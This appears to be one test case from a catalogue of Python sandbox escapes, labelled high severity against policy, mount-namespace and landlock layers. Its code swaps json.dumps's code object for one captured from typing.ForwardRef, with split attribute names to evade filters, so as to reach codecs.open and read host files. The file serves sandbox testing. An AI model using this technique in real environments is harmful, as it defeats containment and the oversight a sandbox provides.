# technique: the attribute setter of all objects gives a library function other code
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import json
import typing

found = {}

class Reference(typing.ForwardRef, _root=True):
    def __setattr__(self, name, value):
        found[name] = value

def trick():
    try:
        Reference("codecs")
    except Exception:
        pass
    object.__setattr__(json.dumps, "__co" + "de__", found["__forward_" + "code__"])
    return json.dumps().open

read_host(trick)
